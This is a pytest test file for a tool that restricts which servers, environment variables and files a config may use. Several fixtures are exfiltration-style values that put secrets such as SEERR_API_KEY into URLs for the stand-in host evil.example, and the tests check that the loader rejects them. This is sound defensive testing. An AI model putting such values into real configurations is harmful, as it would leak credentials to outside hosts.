"""What a restricted file may not use: servers, variables, files, and ways round those."""

from __future__ import annotations

import re
from pathlib import PurePosixPath

import pytest

from reconciler.config import Restrictions, load, parse_restrictions
from reconciler.errors import ConfigError, UsageError
from reconciler.sources.registry import recognize_list

ENV = {
    "SEERR_API_KEY": "key-of-the-server",
    "OTHER": "another-secret",
    "LIST_URL": "https://lists.example/list.json",
    "NTFY_URL": "ntfy://ntfy.example/topic",
    "URL": "http://seerr:5055",
}
KEY = "api_key: '${SEERR_API_KEY}'"
SEERR = f"server: {{url: 'http://seerr:5055', {KEY}}}\n"
LISTS = "lists: {a: {source: imdb:top}}\n"
SERVER = parse_restrictions(["http://seerr:5055"], None, allows_files=False)
VARIABLE = parse_restrictions(None, ["SEERR_API_KEY"], allows_files=False)
NOT_ALLOWED = (
    "this server is not allowed (allowed: http://seerr:5055); allow it with --allow-server"
)
ALONE = (
    "with --allow-server, an address must not mix a variable with other text; put the whole "
    "address into the variable"
)


def problems(text: str, restrictions: Restrictions) -> list[str]:
    try:
        load(
            text,
            name="f.yaml",
            env=ENV,
            read=lambda _: "key-in-a-file",
            recognize_list=recognize_list,
            restrictions=restrictions,
            is_outside=lambda path: PurePosixPath(path).is_absolute(),
        )
    except ConfigError as error:
        return list(error.problems)
    return []


@pytest.mark.parametrize("url", [
    "http://seerr:5055", "http://seerr:5055/", "HTTP://SEERR:5055", "http://seerr:5055/api/v1/",
    "${URL}",
])  # fmt: skip
def test_the_allowed_server_may_be_written_in_any_way(url: str) -> None:
    assert problems(f"server: {{url: '{url}', {KEY}}}\n{LISTS}", SERVER) == []


@pytest.mark.parametrize(("allowed", "written"), [
    ("http://seerr", "http://seerr:80"), ("https://Seerr:443/", "https://seerr"),
    ("http://seerr:80/base/api/v1", "http://seerr/base"),
])  # fmt: skip
def test_a_default_port_may_be_left_out(allowed: str, written: str) -> None:
    restrictions = parse_restrictions(["http://other", allowed], None, allows_files=False)
    assert problems(f"server: {{url: '{written}', {KEY}}}\n{LISTS}", restrictions) == []


@pytest.mark.parametrize("url", [
    "http://evil.example", "https://seerr:5055", "http://seerr:5056", "http://seerr",
    "http://seerr:5055/base", "http://seerr.:5055", "http://seerr.evil.example:5055",
])  # fmt: skip
def test_another_server_is_a_problem_at_its_place(url: str) -> None:
    problem = problems(f"server:\n  url: '{url}'\n  {KEY}\n{LISTS}", SERVER)
    assert problem == [f"f.yaml:2:8 server.url: {NOT_ALLOWED}"]


@pytest.mark.parametrize("text", [
    pytest.param("lists: {a: {source: 'json:https://x.example/${OTHER}'}}", id="in a list"),
    pytest.param("lists: {a: {source: imdb:top, requester: '${OTHER:-}'}}", id="with a default"),
    pytest.param(f"{LISTS}notify: {{urls: ['json://evil.example/${{OTHER}}']}}", id="notify"),
    pytest.param(f"{LISTS}controller: {{listen: '${{OTHER}}.evil.example:80'}}", id="listen"),
    pytest.param(f"{LISTS}ledger: '${{OTHER:?please}}'", id="with a message"),
])  # fmt: skip
def test_another_variable_is_a_problem_and_its_value_is_not_shown(text: str) -> None:
    [problem] = problems(SEERR + text, VARIABLE)
    place, _, message = problem.partition(": ")
    assert re.match(r"f\.yaml:[23]:\d+ ", place)
    assert message == "the variable OTHER is not allowed; allow it with --allow-env"


LEAKS = {
    "a key in a list's address": (
        "lists: {a: {source: 'json:https://evil.example/${SEERR_API_KEY}'}}", "lists.a.source"),
    "a key in a list's host": (
        "lists: {a: {source: 'json:https://${OTHER}.evil.example/x'}}", "lists.a.source"),
    "two variables": (
        "lists: {a: {source: 'json:${LIST_URL}${SEERR_API_KEY}'}}", "lists.a.source"),
    "a key in a notification": (
        LISTS + "notify: {urls: ['json://evil.example/${SEERR_API_KEY}']}", "notify.urls[0]"),
    "a key in a heartbeat": (
        LISTS + "notify: {heartbeat: 'https://evil.example/${SEERR_API_KEY}'}", "notify.heartbeat"),
    "a key in a browser's address": (
        LISTS + "browser: {remote_url: 'http://evil.example/${OTHER}'}", "browser.remote_url"),
    "a key in a site's address": (
        LISTS + "providers: {imdb: {base_url: 'http://evil.example/${OTHER}'}}",
        "providers.imdb.base_url"),
    "a key in a host to listen on": (
        LISTS + "controller: {listen: '${OTHER}.evil.example:80'}", "controller.listen"),
}  # fmt: skip


@pytest.mark.parametrize(("text", "path"), LEAKS.values(), ids=LEAKS)
def test_a_variable_is_sent_to_no_address_of_the_file(text: str, path: str) -> None:
    [problem] = problems(SEERR + text, SERVER)
    assert problem.split(" ", 1)[1] == f"{path}: {ALONE}"


@pytest.mark.parametrize(("site", "lists"), [
    pytest.param("tmdb: {api_key: '${OTHER}', api_url: 'http://evil.example'}", LISTS, id="a key"),
    pytest.param("tmdb: {api_key_file: key, api_url: 'http://evil.example'}", LISTS, id="a file"),
    pytest.param("trakt: {client_id: i, client_secret: s, api_url: 'http://evil.example'}", LISTS,
                 id="whoever has signed in"),
    pytest.param("trakt: {base_url: 'http://evil.example'}",
                 "lists: {a: {source: 'trakt:${OTHER}/watchlist'}}", id="the name of a list"),
])  # fmt: skip
def test_a_key_of_a_site_is_sent_to_no_other_server(site: str, lists: str) -> None:
    text = f"{SEERR}{lists}\nproviders: {{{site}}}"
    [problem] = problems(text, SERVER)
    assert "this server would receive a key for t" in problem
    both = ["http://seerr:5055", "http://evil.example"]
    assert problems(text, parse_restrictions(both, None, allows_files=False)) == []


MAY_READ = "discord://id/token?template=/run/secrets/other"


@pytest.mark.parametrize("restrictions", [SERVER, VARIABLE], ids=["servers", "variables"])
@pytest.mark.parametrize(
    "url", [MAY_READ, "fcm://project/?KeyFile=key", "ntfy://host/topic?priority=high&attach=x"]
)
def test_a_notification_that_may_read_a_file_is_refused(
    url: str, restrictions: Restrictions
) -> None:
    [problem] = problems(f"{SEERR}{LISTS}notify: {{urls: ['{url}']}}", restrictions)
    assert problem.split(" ", 1)[1] == (
        "notify.urls[0]: a parameter of this address could name a file; allow it with"
        " --allow-files, or put the whole address into a variable"
    )


def test_a_notification_reads_what_the_operator_allows() -> None:
    text = f"{SEERR}{LISTS}notify: {{urls: ['{MAY_READ}']}}"
    free = parse_restrictions(["http://seerr:5055"], None, allows_files=True)
    assert problems(text, free) == problems(text, Restrictions()) == []
    plain = f"{SEERR}{LISTS}notify: {{urls: ['ntfys://host/topic?priority=high&tags=tv']}}"
    assert problems(plain, SERVER) == []


@pytest.mark.parametrize("text", [
    pytest.param("lists: {a: {source: 'json:${LIST_URL}'}}", id="a list's whole address"),
    pytest.param("lists: {a: {source: '${LIST_URL}'}}", id="and nothing before it"),
    pytest.param("lists: {a: {source: 'json:https://x.example/l.json'}}", id="no variable"),
    pytest.param(LISTS + "notify: {urls: ['${NTFY_URL}']}", id="a notification's whole address"),
    pytest.param(LISTS + "providers: {imdb: {base_url: 'http://proxy'}}", id="a site without keys"),
    pytest.param(LISTS + "providers: {tmdb: {api_key: '${OTHER}'}}", id="a key for its own site"),
    pytest.param(LISTS + "controller: {listen: '0.0.0.0:${PORT:-8099}'}", id="a port"),
])  # fmt: skip
def test_other_addresses_are_as_free_as_before(text: str) -> None:
    assert problems(SEERR + text, SERVER) == []


@pytest.mark.parametrize("restrictions", [SERVER, VARIABLE], ids=["server", "variable"])
def test_the_ledger_of_a_restricted_file_is_in_its_folder(restrictions: Restrictions) -> None:
    [problem] = problems(f"{SEERR}{LISTS}ledger: /var/x.db", restrictions)
    assert problem == (
        "f.yaml:3:9 ledger: outside the folder of the config file; add --allow-files to use it"
    )
    assert problems(f"{SEERR}{LISTS}ledger: state/x.db", restrictions) == []
    free = Restrictions(restrictions.servers, restrictions.variables, allows_files=True)
    assert problems(f"{SEERR}{LISTS}ledger: /var/x.db", free) == []


def test_an_empty_restriction_allows_nothing() -> None:
    nothing = parse_restrictions([], [], allows_files=False)
    [problem] = problems(SEERR.replace("${SEERR_API_KEY}", "k") + LISTS, nothing)
    assert problem.startswith("f.yaml:1:15 server.url: this server is not allowed (allowed: none)")
    [problem] = problems(SEERR + LISTS, nothing)
    assert "SEERR_API_KEY is not allowed" in problem


@pytest.mark.parametrize(("written", "names"), [
    (["A,B"], {"A", "B"}), (["A", "B"], {"A", "B"}), ([" A, B ,"], {"A", "B"}), ([""], set()),
])  # fmt: skip
def test_variables_are_names_between_commas(written: list[str], names: set[str]) -> None:
    assert set(parse_restrictions(None, written, allows_files=False).variables or ()) == names


@pytest.mark.parametrize(("servers", "variables", "says"), [
    (["seerr:5055"], None, "must begin with http://"),
    (["http://user:swordfish@seerr"], None, "the address contains a user or password"),
    (None, ["A=swordfish"], "entry 1 is not the name of a variable"),
    (None, ["A,${A}"], "entry 2 is not the name of a variable"),
])  # fmt: skip
def test_what_cannot_be_a_restriction_is_refused(
    servers: list[str] | None, variables: list[str] | None, says: str
) -> None:
    with pytest.raises(UsageError, match="--allow-") as caught:
        parse_restrictions(servers, variables, allows_files=False)
    assert says in caught.value.message
    assert "swordfish" not in str(caught.value)
